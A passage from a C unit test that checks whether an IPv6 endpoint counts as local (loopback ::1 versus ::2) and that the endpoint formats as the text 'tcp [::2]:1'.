	at.addr[15] = 1;
	CHECK(endpoint_is_local(&at));
	at.addr[15] = 2;
	CHECK(!endpoint_is_local(&at));
	buf_reset(&b);
	endpoint_text(&b, &at);
	CHECK_SLICE(buf_slice(&b), SLICE("tcp [::2]:1"));
}
